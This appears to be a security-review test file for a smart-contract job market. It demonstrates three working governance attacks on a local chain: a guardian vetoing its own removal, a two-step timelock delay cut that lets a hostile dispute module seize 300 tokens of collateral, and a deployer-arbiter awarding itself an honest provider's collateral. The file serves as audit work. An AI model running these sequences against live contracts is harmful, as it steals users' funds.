/**
 * Attacks on governance as the Ignition deployment wires it (demo parameters: 6-hour delay =
 * bound, 1 s voting delay, 60 s vote; signer 8 the guardian). Each test PASSES WHILE THE ATTACK WORKS.
 *
 * A. Guardian veto: CANCELLER_ROLE cancels ANY queued operation, including the one that would
 *    unpause the market or remove the guardian. With `pause()` (never expiring) it freezes posts
 *    and claims for as long as it likes; governance cannot take the power back.
 * B. Two-step delay cut: proposal 1 (benign-looking) lowers the job bounds and calls
 *    `updateDelay(newBound)` in the same batch (the bound is read after the bounds changed).
 *    Proposal 2 (a hostile module) then needs only the short delay, while jobs posted under the
 *    old bounds are still live: the hostile module takes their collateral.
 * C. The deployer stays the dispute arbiter (remote.json sets no `arbiter`) and holds every vote
 *    until tokens are distributed. While the pool is empty (launch, or a new module) every
 *    dispute goes to the arbiter: the deployer challenges an honest job and awards itself.
 */
import { expect } from "chai";
import { id, type AddressLike, type BytesLike, type ContractTransactionReceipt } from "ethers";
import hre, { network } from "hardhat";

import { TIMELOCK_ROLES } from "../../ignition/modules/governance.ts";
import { deployGoverned } from "../../scripts/lib/governance.ts";
import { jobRequest, postedJobIds, submittedTerms } from "../../scripts/lib/jobs.js";
import { CHALLENGE_SALT, challengeCommitment } from "../../test/disputes/fixtures.js";

const connection = await network.create();
const { ethers, networkHelpers } = connection;
const { time, mine } = networkHelpers;
const UNIT = 10n ** 18n;
const fmt = (wei: bigint) => `${Number(wei) / 1e18}`;

async function governed() {
  const signers = await ethers.getSigners();
  const [deployer, requester, provider, attacker] = signers;
  const guardian = signers[8];
  const { deployment } = await deployGoverned({ hre, provider: connection.provider, overrides: { guardian: guardian.address } });
  const market = await ethers.getContractAt("HashworkMarket", deployment.market);
  const disputes = await ethers.getContractAt("HashworkDisputes", deployment.disputes!);
  const token = await ethers.getContractAt("HashworkToken", deployment.token!);
  const timelock = await ethers.getContractAt("HashworkTimelock", deployment.timelock);
  const governor = await ethers.getContractAt("HashworkGovernor", deployment.governor);
  await token.connect(deployer).delegate(deployer.address);
  for (const s of [requester, provider, attacker]) {
    await token.connect(deployer).transfer(s.address, 10_000n * UNIT);
    await token.connect(s).approve(deployment.market, ethers.MaxUint256);
    await token.connect(s).approve(deployment.disputes!, ethers.MaxUint256);
  }
  await token.connect(deployer).approve(deployment.disputes!, ethers.MaxUint256);
  await market.connect(provider).stake(1_000n * UNIT);
  await mine(1);
  return { deployer, requester, provider, attacker, guardian, market, disputes, token, timelock, governor };
}
type G = Awaited<ReturnType<typeof governed>>;
type Proposal = { targets: AddressLike[]; values: bigint[]; calldatas: BytesLike[]; description: string };

async function queue(g: G, p: Proposal) {
  await g.governor.connect(g.deployer).propose(p.targets, p.values, p.calldatas, p.description);
  const proposalId = await g.governor.hashProposal(p.targets, p.values, p.calldatas, id(p.description));
  await time.increase((await g.governor.votingDelay()) + 1n);
  await g.governor.connect(g.deployer).castVote(proposalId, 1);
  await time.increase((await g.governor.votingPeriod()) + 1n);
  const receipt = (await (
    await g.governor.queue(p.targets, p.values, p.calldatas, id(p.description))
  ).wait()) as ContractTransactionReceipt;
  const scheduled = receipt.logs
    .map((l) => {
      try {
        return g.timelock.interface.parseLog(l);
      } catch {
        return null;
      }
    })
    .find((e) => e?.name === "CallScheduled");
  return { proposalId, operationId: scheduled!.args.id as string };
}
const execute = (g: G, p: Proposal) => g.governor.execute(p.targets, p.values, p.calldatas, id(p.description));

describe("landing review: governance", function () {
  this.timeout(300_000);

  it("A: the guardian cancels the proposal that would unpause the market and remove it; the pause stands", async function () {
    const g = await networkHelpers.loadFixture(governed);
    const pauseGas = (await (await g.market.connect(g.guardian).pause()).wait())!.gasUsed;
    const p: Proposal = {
      targets: [g.market, g.market, g.timelock],
      values: [0n, 0n, 0n],
      calldatas: [
        g.market.interface.encodeFunctionData("unpause"),
        g.market.interface.encodeFunctionData("setGuardian", [ethers.ZeroAddress]),
        g.timelock.interface.encodeFunctionData("revokeRole", [TIMELOCK_ROLES.canceller, g.guardian.address]),
      ],
      description: "Unpause and remove the guardian",
    };
    const { proposalId, operationId } = await queue(g, p);
    const cancelGas = (await (await g.timelock.connect(g.guardian).cancel(operationId)).wait())!.gasUsed;
    await time.increase(await g.timelock.getMinDelay());
    await expect(execute(g, p)).to.revert(ethers);
    console.log(
      `      guardian: pause ${pauseGas} gas, veto of the fix ${cancelGas} gas; proposal state ${await g.governor.state(proposalId)} (2 = Canceled); market paused: ${(await g.market.config()).paused}`,
    );
    expect((await g.market.config()).paused).to.equal(true);
    expect(await g.market.guardian()).to.equal(g.guardian.address);
  });

  it("B: a bounds cut + updateDelay in one batch lets the next proposal hit jobs posted under the old bounds", async function () {
    const g = await networkHelpers.loadFixture(governed);
    const oldDelay = await g.timelock.getMinDelay();
    const c = await g.market.config();
    const newBound = Number(c.unbondingPeriod) + 60 + 60 + 60 + Number(await g.market.maxDisputeDuration());
    const cut: Proposal = {
      targets: [g.market, g.market, g.market, g.timelock],
      values: [0n, 0n, 0n, 0n],
      calldatas: [
        g.market.interface.encodeFunctionData("setMaxClaimDelay", [60]),
        g.market.interface.encodeFunctionData("setExecutionTimeBounds", [1, 60]),
        g.market.interface.encodeFunctionData("setChallengeWindowBounds", [1, 60]),
        g.timelock.interface.encodeFunctionData("updateDelay", [newBound]),
      ],
      description: "Tighten job bounds",
    };
    await queue(g, cut);
    await time.increase(oldDelay);
    // A job posted under the old bounds, just before the cut executes: 2 h to claim, 1 h window.
    const now = await time.latest();
    const request = jobRequest(now, {
      reward: 100n * UNIT,
      collateralPct: 300,
      claimDeadline: now + Number(c.maxClaimDelay) - 10,
      executionTime: 3600,
      challengeWindow: Number(c.maxChallengeWindow),
    });
    const [jobId] = postedJobIds(g.market, await (await g.market.connect(g.requester).postJob(request)).wait());
    await execute(g, cut);
    const cutAt = await time.latest();
    expect(await g.timelock.getMinDelay()).to.equal(BigInt(newBound));

    const hostile: Proposal = {
      targets: [g.market],
      values: [0n],
      calldatas: [g.market.interface.encodeFunctionData("setDisputeModule", [g.attacker.address])],
      description: "New dispute module",
    };
    await queue(g, hostile);
    // The provider claims late (within the old 2-hour claim delay) and submits.
    await time.increaseTo(cutAt + Number(c.maxClaimDelay) - 200);
    await g.market.connect(g.provider).claimJob(jobId);
    const terms = submittedTerms(
      g.market,
      await (await g.market.connect(g.provider).submitResult(jobId, ethers.id("right"), "")).wait(),
    ).get(jobId)!;
    await time.increaseTo(cutAt + newBound + 120);
    await execute(g, hostile);
    const before = await g.market.balanceOf(g.attacker.address);
    await g.market.connect(g.attacker).openDispute(jobId, terms);
    await g.market.connect(g.attacker).settleDispute(jobId, terms, false);
    const taken = (await g.market.balanceOf(g.attacker.address)) - before;
    console.log(
      `      delay ${oldDelay}s -> ${newBound}s; hostile module live ${(await time.latest()) - cutAt}s after the cut, ` +
        `job posted before the cut still live; collateral taken ${fmt(taken)}`,
    );
    expect(taken).to.equal(300n * UNIT);
  });

  it("C: the deployer, still the arbiter, decides a dispute on an empty pool and takes an honest provider's collateral", async function () {
    const g = await networkHelpers.loadFixture(governed);
    expect(await g.disputes.arbiter()).to.equal(g.deployer.address);
    const now = await time.latest();
    const [jobId] = postedJobIds(
      g.market,
      await (
        await g.market.connect(g.requester).postJob(jobRequest(now, { reward: 100n * UNIT, collateralPct: 300, challengeWindow: 3600 }))
      ).wait(),
    );
    await g.market.connect(g.provider).claimJob(jobId);
    const terms = submittedTerms(
      g.market,
      await (await g.market.connect(g.provider).submitResult(jobId, ethers.id("right"), "")).wait(),
    ).get(jobId)!;
    const lie = ethers.id("lie");
    const tokensBefore = (await g.token.balanceOf(g.deployer.address)) + (await g.market.balanceOf(g.deployer.address));
    let gas = 0n;
    const spend = async (tx: Promise<{ wait: () => Promise<{ gasUsed: bigint } | null> }>) => {
      gas += (await (await tx).wait())!.gasUsed;
    };
    await spend(
      g.disputes.connect(g.deployer).commitChallenge(challengeCommitment(jobId, lie, g.deployer.address, CHALLENGE_SALT)) as never,
    );
    await spend(g.disputes.connect(g.deployer).challenge(jobId, terms, lie, CHALLENGE_SALT) as never);
    for (let r = 0; r < 4; r++) {
      if ((await g.disputes.getDispute(jobId)).phase !== 1n) break;
      await mine(1);
      await spend(g.disputes.connect(g.deployer).drawCommittee(jobId, terms) as never); // no eligible bond: the round fails
    }
    await spend(g.disputes.connect(g.deployer).arbitrate(jobId, terms, false) as never);
    const gained = (await g.token.balanceOf(g.deployer.address)) + (await g.market.balanceOf(g.deployer.address)) - tokensBefore;
    const votes = await g.token.getVotes(g.deployer.address);
    console.log(
      `      deployer: arbiter, ${fmt(votes)} of ${fmt(await g.token.totalSupply())} votes; gained ${fmt(gained)} from an honest 300-token collateral for ${gas} gas`,
    );
    expect(gained).to.be.greaterThan(0n);
  });
});
